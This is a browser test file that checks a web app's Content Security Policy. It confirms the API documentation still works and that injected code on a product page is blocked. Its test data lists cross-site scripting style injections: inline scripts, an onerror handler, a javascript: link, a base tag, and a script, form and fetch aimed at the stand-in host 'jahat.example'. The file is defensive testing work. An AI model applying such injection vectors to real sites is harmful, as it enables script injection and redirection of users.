import { expect, test, visit } from '../support/browser.ts';

const REFUSED = /Content Security Policy/;

const element = (tag: string, values: object): string =>
  `document.body.append(globalThis.added = Object.assign(document.createElement('${tag}'), ${JSON.stringify(values)}));`;
const OTHER_HOST = 'https://jahat.example/';

const INJECTIONS = {
  'an inline script': element('script', { textContent: 'ran = 1' }),
  'a script of another host': element('script', { src: `${OTHER_HOST}a.js` }),
  'a handler in markup': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran = 1">')`,
  'a javascript: link': `${element('a', { href: 'javascript:ran = 1' })} added.click()`,
  'a frame': element('iframe', { src: '/' }),
  'a form to another host': `${element('form', { action: OTHER_HOST })} added.submit()`,
  'a request to another host': `fetch('${OTHER_HOST}').catch(() => undefined)`,
  'a base for every link': element('base', { href: OTHER_HOST })
};

test('§7 Headers: the API description works under its policy', async ({ page }) => {
  await page.goto('/api/docs');
  await page.getByRole('link', { name: 'ProductCategory', exact: true }).click();
  await page
    .getByRole('button', { name: /^GET ​?\/product-category/ })
    .first()
    .click();
  await page.getByRole('button', { name: 'Try it out' }).click();
  await page.getByRole('button', { name: 'Execute' }).click();
  await expect(page.getByText('"ProductCategory"').first()).toBeVisible();
});

test.describe(() => {
  test.use({ expectedErrors: REFUSED });

  test('§7 Headers: code injected into a page has no effect, and the browser reports that it was blocked', async ({
    page
  }) => {
    await visit(page, '/product/Jahe');
    for (const [what, code] of Object.entries(INJECTIONS)) {
      const warning = page.waitForEvent(
        'console',
        (message) => message.type() === 'error' && REFUSED.test(message.text())
      );
      await page.evaluate(code);
      await warning;
      expect(await page.evaluate('typeof ran'), what).toBe('undefined');
      expect(await page.evaluate('location.pathname'), what).toBe('/product/Jahe');
    }
  });
});
